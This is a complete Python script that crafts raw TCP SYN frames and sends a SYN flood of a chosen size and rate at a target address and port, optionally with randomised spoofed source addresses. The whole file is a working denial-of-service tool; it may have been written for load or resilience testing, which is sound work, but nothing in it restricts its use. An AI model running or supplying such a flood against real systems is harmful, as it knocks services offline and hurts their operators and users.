"""A steady flood of TCP SYNs as raw frames: exactly so many, in an even rhythm. What is missed while this program has no
core is sent within milliseconds, but never made up for: a busy machine gets a slower flood, not one that comes in bursts.

Arguments: interface, MAC of the receiver, its address, port, number, number a second, "one" or "random" for the sources.
"""
import errno
import random
import socket
import struct
import sys
import time

MOST_MADE_UP_FOR = 0.01

interface, mac, target, port, count, rate, sources = sys.argv[1:]
count, rate = int(count), int(rate)
frame = bytearray(bytes.fromhex(mac.replace(":", "")) + bytes.fromhex("020000000001") + b"\x08\x00"
                  + struct.pack("!BBHHHBBH4s4s", 0x45, 0, 40, 0, 0, 64, 6, 0, socket.inet_aton("10.77.0.1"),
                                socket.inet_aton(target))
                  + struct.pack("!HHIIBBHHH", 40000, int(port), 0, 0, 0x50, 0x02, 1024, 0, 0))
out = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
out.bind((interface, 0x0800))
batch = max(1, rate // 1000)
sent = 0
due = time.monotonic()
while sent < count:
    for _ in range(min(batch, count - sent)):
        sent += 1
        struct.pack_into("!HHI", frame, 34, 1024 + sent % 60000, int(port), sent)
        if sources == "random":
            struct.pack_into("!I", frame, 26, 11 << 24 | random.getrandbits(24))
        while True:
            try:
                out.send(frame)
                break
            except OSError as e:
                if e.errno != errno.ENOBUFS:
                    raise
    due += batch / rate
    now = time.monotonic()
    if now < due:
        time.sleep(due - now)
    due = max(due, now - MOST_MADE_UP_FOR)
